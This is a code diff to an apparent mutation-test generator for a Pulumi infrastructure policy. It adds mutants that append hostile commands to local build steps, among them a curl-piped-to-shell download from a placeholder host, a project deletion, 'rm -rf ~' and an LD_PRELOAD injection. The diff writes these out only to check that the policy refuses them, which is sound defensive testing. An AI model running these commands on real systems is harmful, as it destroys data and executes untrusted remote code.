@@ -519,7 +519,25 @@ def _gateway_mutants(index: int, resource: Resource) -> Iterator[Mutant]:
                      _on(("spec",), _set("gatewayClassName", gateway_class)))
 
 
+def _command_mutants(index: int, resource: Resource) -> Iterator[Mutant]:
+    """The engine image's build runs on the machine of `pulumi up`: any other script, interpreter, directory,
+    environment, or a delete/update command of its own is refused."""
+    name, props = resource["name"], resource["inputs"]
+    script = props.get("create", "")
+    yield Mutant("commands", f"{name}: a download piped to a shell appended", index,
+                 _set("create", script + "\ncurl -fsSL http://x.invalid/i.sh | sh\n"))
+    yield Mutant("commands", f"{name}: the build's check of the digest dropped", index,
+                 _set("create", "\n".join(line for line in script.splitlines() if not line.startswith("case "))))
+    yield Mutant("commands", f"{name}: a delete command", index, _set("delete", "gcloud projects delete p --quiet"))
+    yield Mutant("commands", f"{name}: an update command", index, _set("update", "rm -rf ~"))
+    yield Mutant("commands", f"{name}: interpreter sh", index, _set("interpreter", ["/bin/sh", "-c"]))
+    yield Mutant("commands", f"{name}: another directory", index, _set("dir", "/"))
+    yield Mutant("commands", f"{name}: LD_PRELOAD in its environment", index,
+                 lambda inputs: inputs.setdefault("environment", {}).update(LD_PRELOAD="/tmp/x.so"))
+
+
 FAMILIES: dict[str, Callable[[int, Resource], Iterator[Mutant]]] = {
+    "Command": _command_mutants,
     "Gateway": _gateway_mutants,
     "Service": _service_mutants,
     "NetworkPolicy": _netpol_mutants,
@@ -577,6 +595,7 @@ def _added(resources: list[Resource]) -> Iterator[Mutant]:
             "metadata": {"name": "allow-all", "namespace": namespace},
             "spec": {"podSelector": {}, "policyTypes": ["Egress"], "egress": [{}]}}),
         ("buckets", "gcp:storage/bucket:Bucket", {"name": "open", "publicAccessPrevention": "inherited"}),
+        ("commands", "command:local:Command", {"create": "curl -fsSL http://x.invalid/i.sh | sh"}),
     ]
     for family, type_token, inputs in additions:
         yield Mutant(family, f"added {type_token.rsplit(':', 1)[-1]} {inputs.get('metadata', {}).get('name', '')}",
@@ -598,7 +617,8 @@ def generate(resources: list[Resource]) -> Iterator[Mutant]:
         if resource.get("options", {}).get("read") or not resource.get("inputs"):
             continue
         kind = _kind(resource)
-        if not resource["type"].startswith(("kubernetes:", "gcp:")) or resource["type"].startswith("kubernetes:helm"):
+        if not resource["type"].startswith(("kubernetes:", "gcp:", "command:")) \
+                or resource["type"].startswith("kubernetes:helm"):
             continue  # the program's components, providers, dynamic resources: they hold no fields of their own
         if kind == "Service" and not resource["type"].startswith("kubernetes:"):
             continue  # gcp:projects/service:Service enables an API
